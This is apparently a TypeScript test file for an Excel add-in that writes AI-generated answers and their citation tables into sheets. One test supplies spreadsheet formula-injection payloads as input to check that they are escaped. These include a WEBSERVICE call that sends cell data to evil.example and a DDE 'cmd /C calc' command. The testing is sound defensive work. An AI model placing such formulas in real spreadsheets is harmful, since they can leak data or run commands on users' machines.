/**
 * "Insert answer" against office-addin-mock: what lands in which cells, on which sheet, in one batch.
 * The fake sheets record the range calls the writer makes; the mock enforces load-before-read.
 */
import assert from 'node:assert/strict';
import { OfficeMockObject } from 'office-addin-mock';
import type { Claim } from '@intellio/api-client';
import { answerRows, CITATION_HEADERS, insertAnswer, OCR_NOTE, parseCellTarget, sheetLayout } from './insert.js';
import type { Citation } from './types.js';

// Analyses stored before stable app links existed have no appUrl: these two are such old citations.
const CITATIONS: Citation[] = [
  { id: 'P1', documentId: 'd1', documentName: 'Annual report 2024.pdf', page: 12, quote: 'North grew 18% on new contracts.', url: 'https://app.example/api/v1/documents/d1/file?s=x#page=12' },
  { id: 'P4', documentId: 'd2', documentName: 'Board notes.docx', page: null, quote: 'South paused hiring.', url: 'https://app.example/api/v1/documents/d2/file?s=y' },
];
const APP_CITATIONS: Citation[] = CITATIONS.map((c) => ({ ...c, appUrl: `https://app.example/d/${c.documentId}${c.page ? `?page=${c.page}` : ''}` }));

type Hyperlink = { address: string; textToDisplay: string; screenTip: string };

interface FakeSheet {
  name: string;
  calls: string[];
  block: { values: unknown; address: string };
  header: { format: { font: { bold: unknown } } };
}

/** Every cell of a block the writer addressed, with what it set on it (kept outside the mock's wrapping). */
let linked: { sheet: string; cell: { row: number; col: number; hyperlink?: Hyperlink } }[];
const cellsOf = (sheet: string) => linked.filter((l) => l.sheet === sheet).map((l) => l.cell);

function sheet(name: string, calls: string[]) {
  return {
    name,
    // The block's address is what Excel would report after the resize; the writer loads and returns it.
    block: {
      address: `'${name}'!X`,
      values: '',
      select: () => calls.push(`${name}: select`),
      getCell: (row: number, col: number) => {
        calls.push(`${name}: link cell ${row},${col}`);
        const cell = { row, col };
        linked.push({ sheet: name, cell });
        return cell;
      },
    },
    header: { format: { font: { bold: false } } },
    anchor: {
      getCell(this: object, r: number, c: number) {
        calls.push(`${name}: cell ${r},${c}`);
        return this;
      },
      getResizedRange: (rows: number, cols: number) => {
        calls.push(`${name}: resize ${rows},${cols}`);
        return sheets[name].block;
      },
      getOffsetRange: (rows: number, cols: number) => {
        calls.push(`${name}: offset ${rows},${cols}`);
        return {
          getResizedRange: (r: number, c: number) => {
            calls.push(`${name}: header ${r},${c}`);
            return sheets[name].header;
          },
        };
      },
    },
    getRange(this: { anchor: unknown }, address: string) {
      calls.push(`${name}: range ${address}`);
      return this.anchor;
    },
    activate: () => calls.push(`${name}: activate`),
  };
}

let sheets: Record<string, FakeSheet>;
let calls: string[];
let syncs: number;

function excelWithSheets() {
  calls = [];
  linked = [];
  syncs = 0;
  const mock = new OfficeMockObject({
    context: {
      workbook: {
        worksheets: {
          Data: sheet('Data', calls),
          'Intellio answer': sheet('Intellio answer', calls),
          add(this: Record<string, unknown>, name: string) {
            calls.push(`add ${name}`);
            return this[name];
          },
          getItem(this: Record<string, unknown>, name: string) {
            calls.push(`getItem ${name}`);
            if (!this[name]) throw new Error(`The requested resource doesn't exist.`);
            return this[name];
          },
          getActiveWorksheet(this: Record<string, unknown>) {
            return this.Data;
          },
        },
      },
    },
    run(this: { context: { sync: () => Promise<void> } }, batch: (context: unknown) => Promise<unknown>) {
      const real = this.context.sync.bind(this.context);
      this.context.sync = async () => {
        syncs++;
        await real();
      };
      return batch(this.context);
    },
  });
  (globalThis as { Excel?: unknown }).Excel = mock;
  const ws = (mock as unknown as { context: { workbook: { worksheets: Record<string, FakeSheet> } } }).context.workbook.worksheets;
  sheets = { Data: ws.Data, 'Intellio answer': ws['Intellio answer'] };
}

describe('Excel host: insertAnswer (office-addin-mock)', () => {
  afterEach(() => delete (globalThis as { Excel?: unknown }).Excel);

  it('writes the answer and the citations table on a new sheet in one sync', async () => {
    excelWithSheets();
    const result = await insertAnswer({
      answer: 'North grew fastest (+18%).\nSouth was flat.\n',
      citations: CITATIONS,
      includeCitations: true,
      target: { kind: 'sheet', name: 'Intellio answer' },
    });
    assert.equal(syncs, 1);
    assert.deepEqual(result, { sheet: 'Intellio answer', address: "'Intellio answer'!X" });
    const target = sheets['Intellio answer'];
    assert.deepEqual(target.block.values, [
      ['North grew fastest (+18%).', '', '', '', ''],
      ['South was flat.', '', '', '', ''],
      ['', '', '', '', ''],
      CITATION_HEADERS,
      ['[P1]', 'Annual report 2024.pdf', 12, 'North grew 18% on new contracts.', 'Annual report 2024.pdf, p. 12'],
      ['[P4]', 'Board notes.docx', '', 'South paused hiring.', 'Board notes.docx'],
    ]);
    assert.equal(target.header.format.font.bold, true);
    assert.deepEqual(calls, [
      'add Intellio answer',
      'Intellio answer: range A1',
      'Intellio answer: resize 5,4',
      'Intellio answer: offset 3,0',
      'Intellio answer: header 0,4',
      'Intellio answer: link cell 4,4',
      'Intellio answer: link cell 5,4',
      'Intellio answer: activate',
      'Intellio answer: select',
    ]);
    // The data sheet was never touched.
    assert.ok(!calls.some((c) => c.startsWith('Data:')));
    // An old analysis has no stable link: its sources link to the signed one rather than to nothing.
    assert.deepEqual(
      cellsOf('Intellio answer').map((c) => c.hyperlink?.address),
      CITATIONS.map((c) => c.url),
    );
  });

  it('links each source cell to its stable app link and flags the unsupported claim beside its line, in one sync', async () => {
    excelWithSheets();
    const claims: Claim[] = [
      { text: 'North grew fastest (+18%).', verdict: 'supported', sources: [{ type: 'passage', citation: 'P1', documentId: 'd1', page: 12 }], checkedBy: 'rules' },
      { text: 'South lost 40% of its staff.', verdict: 'unsupported', sources: [{ type: 'passage', citation: 'P4', documentId: 'd2', page: null }], reason: '40% is not in P4', checkedBy: 'rules' },
    ];
    await insertAnswer({
      answer: 'North grew fastest (+18%) [P1].\nSouth lost 40% of its staff [P4].',
      citations: APP_CITATIONS,
      claims,
      includeCitations: true,
      target: { kind: 'sheet', name: 'Intellio answer' },
    });
    assert.equal(syncs, 1);
    const target = sheets['Intellio answer'];
    assert.deepEqual(target.block.values, [
      ['North grew fastest (+18%) [P1].', '', '', '', ''],
      ['South lost 40% of its staff [P4].', '⚠ Not found in its sources: 40% is not in P4', '', '', ''],
      ['', '', '', '', ''],
      ['1 of 2 statements checked against their sources · 1 not found in its sources', '', '', '', ''],
      ['', '', '', '', ''],
      CITATION_HEADERS,
      ['[P1]', 'Annual report 2024.pdf', 12, 'North grew 18% on new contracts.', 'Annual report 2024.pdf, p. 12'],
      ['[P4]', 'Board notes.docx', '', 'South paused hiring.', 'Board notes.docx'],
    ]);
    assert.deepEqual(cellsOf('Intellio answer'), [
      { row: 6, col: 4, hyperlink: { address: 'https://app.example/d/d1?page=12', textToDisplay: 'Annual report 2024.pdf, p. 12', screenTip: 'Open Annual report 2024.pdf, p. 12 in Intellio' } },
      { row: 7, col: 4, hyperlink: { address: 'https://app.example/d/d2', textToDisplay: 'Board notes.docx', screenTip: 'Open Board notes.docx in Intellio' } },
    ]);
    assert.ok(calls.includes('Intellio answer: offset 5,0'), 'the header row is the one made bold');
  });

  it('flags an unsupported claim it cannot place on a row of its own, and never writes a formula from the answer', async () => {
    excelWithSheets();
    const claims: Claim[] = [{ text: 'Margins doubled.', verdict: 'unsupported', sources: [], reason: 'no source says so' }];
    await insertAnswer({ answer: '=HYPERLINK("http://evil.example")\n+WEBSERVICE("https://evil.example/?d="&A1)\n-2+3+cmd|\' /C calc\'!A0\n@SUM(1+1)\n\t=1+1\nMargins, in short, doubled.', citations: [], claims, includeCitations: true, target: { kind: 'sheet', name: 'Intellio answer' } });
    assert.deepEqual(sheets['Intellio answer'].block.values, [
      ['\'=HYPERLINK("http://evil.example")', ''],
      ['\'+WEBSERVICE("https://evil.example/?d="&A1)', ''],
      ["'-2+3+cmd|' /C calc'!A0", ''],
      ["'@SUM(1+1)", ''],
      ["'\t=1+1", ''],
      ['Margins, in short, doubled.', ''],
      ['“Margins doubled.”', '⚠ Not found in its sources: no source says so'],
      ['', ''],
      ['0 of 1 statement checked against their sources · 1 not found in its sources', ''],
    ]);
  });

  it('adds a Note column when a quote was read by OCR, and makes all of the header row bold', async () => {
    excelWithSheets();
    const scanned = { ...CITATIONS[1], id: 'P7', documentName: 'Signed lease.pdf', page: 3, quote: 'Rent is 4,200 a month.', ocr: true };
    await insertAnswer({ answer: 'Rent is fixed.', citations: [CITATIONS[0], scanned], includeCitations: true, target: { kind: 'sheet', name: 'Intellio answer' } });
    const target = sheets['Intellio answer'];
    assert.deepEqual(target.block.values, [
      ['Rent is fixed.', '', '', '', '', ''],
      ['', '', '', '', '', ''],
      [...CITATION_HEADERS, 'Note'],
      ['[P1]', 'Annual report 2024.pdf', 12, 'North grew 18% on new contracts.', 'Annual report 2024.pdf, p. 12', ''],
      ['[P7]', 'Signed lease.pdf', 3, 'Rent is 4,200 a month.', 'Signed lease.pdf, p. 3', OCR_NOTE],
    ]);
    assert.ok(calls.includes('Intellio answer: header 0,5'), calls.join('\n'));
  });

  it('writes only the answer at a named cell of another sheet', async () => {
    excelWithSheets();
    await insertAnswer({ answer: 'One line.', citations: CITATIONS, includeCitations: false, target: { kind: 'cell', address: "'Data'!H2" } });
    assert.equal(syncs, 1);
    assert.deepEqual(sheets.Data.block.values, [['One line.']]);
    assert.deepEqual(calls.slice(0, 4), ['getItem Data', 'Data: range H2', 'Data: cell 0,0', 'Data: resize 0,0']);
    assert.ok(!calls.some((c) => c.includes('header')), 'no citations header without citations');
  });

  it('uses the active sheet for a bare cell address', async () => {
    excelWithSheets();
    await insertAnswer({ answer: 'a\nb', citations: [], includeCitations: true, target: { kind: 'cell', address: 'C5' } });
    assert.deepEqual(sheets.Data.block.values, [['a'], ['b']]);
    assert.ok(!calls.some((c) => c.startsWith('getItem')));
  });

  it('writes an answer that is only a rule line as one blank cell instead of failing on no rows', async () => {
    excelWithSheets();
    const claims: Claim[] = [{ text: '---', verdict: 'unsupported', sources: [] }];
    await insertAnswer({ answer: '---', citations: [], claims, includeCitations: false, target: { kind: 'cell', address: 'C5' } });
    assert.deepEqual(sheets.Data.block.values, [
      ['', '⚠ Not found in its sources'],
      ['', ''],
      ['0 of 1 statement checked against their sources · 1 not found in its sources', ''],
    ]);
    await insertAnswer({ answer: '| --- | --- |', citations: [], includeCitations: false, target: { kind: 'cell', address: 'C5' } });
    assert.deepEqual(sheets.Data.block.values, [['']]);
  });

  it('never writes more than an Excel cell holds: a long line goes on below, a long quote is cut', async () => {
    excelWithSheets();
    // The emoji straddles the first cut: its two halves must stay together.
    const line = `=${'a'.repeat(32_764)}😀${'b'.repeat(40_000)}`;
    const quote = 'q'.repeat(50_000);
    await insertAnswer({ answer: line, citations: [{ ...CITATIONS[0], quote }], includeCitations: true, target: { kind: 'cell', address: 'A1' } });
    const values = sheets.Data.block.values as (string | number)[][];
    for (const v of values.flat()) assert.ok(String(v).length <= 32_767, `${String(v).length} characters`);
    const written = values.slice(0, 3).map((r) => String(r[0]));
    assert.equal(written[0][0], "'", 'the first piece is still no formula');
    assert.equal(written.join('').slice(1), line, 'the line is whole across its rows');
    assert.ok(written.every((w) => !/[\uD800-\uDBFF]$/.test(w)), 'no piece ends in half an emoji');
    assert.equal(values[5][3], `${quote.slice(0, 32_766)}…`);
  });

  it("passes Excel's error through when the named sheet does not exist", async () => {
    excelWithSheets();
    await assert.rejects(insertAnswer({ answer: 'x', citations: [], includeCitations: false, target: { kind: 'cell', address: 'Nope!A1' } }), /doesn't exist/);
  });
});

describe('Excel host: answer layout', () => {
  it('pads rows to a rectangle and keeps blank lines inside the answer', () => {
    assert.deepEqual(answerRows('a\n\nb', [], true), [['a'], [''], ['b']]);
    assert.deepEqual(answerRows('', [], false), [['']]);
  });

  it('writes a Markdown answer as plain cells: no emphasis marks, bullets as •, a table as real cells', () => {
    const answer = [
      '## Revenue vs cost',
      '**May** is the _outlier_: see `B6`.',
      '- Revenue **9,100**',
      '',
      '| Month | Revenue | Change |',
      '| :--- | ---: | --- |',
      '| Apr | 1,480 | -1.3% |',
      '| May | 9100 | a \\| b |',
    ].join('\n');
    assert.deepEqual(answerRows(answer, [], false), [
      ['Revenue vs cost', '', ''],
      ['May is the outlier: see B6.', '', ''],
      ['• Revenue 9,100', '', ''],
      ['', '', ''],
      ['Month', 'Revenue', 'Change'],
      ['Apr', 1480, '-1.3%'],
      ['May', 9100, 'a | b'],
    ]);
  });

  it('writes a table cell as a number only when it is one a spreadsheet keeps as written', () => {
    const rows = answerRows('| 1,480 | -0.5 | 0 | 12,345,678.9 | , | 1,2 | 1,,2 | 00123 | 12345678901234567 | 1e21 |', [], false);
    assert.deepEqual(rows, [[1480, -0.5, 0, 12345678.9, ',', '1,2', '1,,2', '00123', '12345678901234567', '1e21']]);
    // Written, the digits a host would read as a (rounded) number stay text behind an apostrophe.
    assert.deepEqual(sheetLayout({ answer: '| 00123 | 12345678901234567 | 0.5 | 2024 |\n00123', citations: [], includeCitations: false }).rows, [
      ["'00123", "'12345678901234567", 0.5, 2024],
      ["'00123", '', '', ''],
    ]);
  });

  it('parses quoted sheet names in targets', () => {
    assert.deepEqual(parseCellTarget("'It''s Q3'!B2"), { sheet: "It's Q3", cell: 'B2' });
    assert.deepEqual(parseCellTarget(' D4 '), { sheet: null, cell: 'D4' });
  });
});
